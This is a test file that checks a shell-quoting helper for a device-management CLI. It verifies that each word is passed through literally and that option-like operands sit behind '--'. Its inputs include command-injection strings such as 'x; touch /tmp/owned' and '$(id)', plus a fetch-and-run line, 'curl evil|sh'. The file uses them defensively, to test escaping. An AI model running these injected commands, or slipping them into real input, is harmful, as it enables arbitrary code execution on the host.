import { execFileSync } from 'node:child_process'
import { describe, expect, test } from 'vitest'
import { homeportCommand, shellWord } from '../../src/lib/shell-word.js'

const words = [
  'router1',
  'x; touch /tmp/owned',
  "o'neill",
  '$(id)',
  '`id`',
  '-rf',
  '--',
  'ä b',
  '*',
  '\\',
  '"',
  '~',
  '#x',
]

describe('a word in a command for pasting', () => {
  test.each(words)('a shell reads %j as exactly that', (word) => {
    expect(execFileSync('/bin/sh', ['-c', `printf %s ${shellWord(word)}`], { encoding: 'utf8' })).toBe(word)
  })

  test('an operand that looks like an option stands behind `--`', () => {
    expect(homeportCommand('devices approve', 'router1')).toBe('homeport devices approve router1')
    expect(homeportCommand('devices approve', '-rf')).toBe('homeport devices approve -- -rf')
  })

  test('what is shell syntax is quoted', () => {
    expect(homeportCommand('devices approve', 'x; curl evil|sh')).toBe("homeport devices approve 'x; curl evil|sh'")
  })

  test('options go first, quoted, and those without a value are left out', () => {
    const options = { config: '/etc/home port.yaml', 'data-dir': undefined }
    expect(homeportCommand('restore', options, 'b.tar.gz')).toBe(
      "homeport restore --config '/etc/home port.yaml' b.tar.gz",
    )
    expect(homeportCommand('restore', { config: 'c' }, '-b')).toBe('homeport restore --config c -- -b')
  })
})
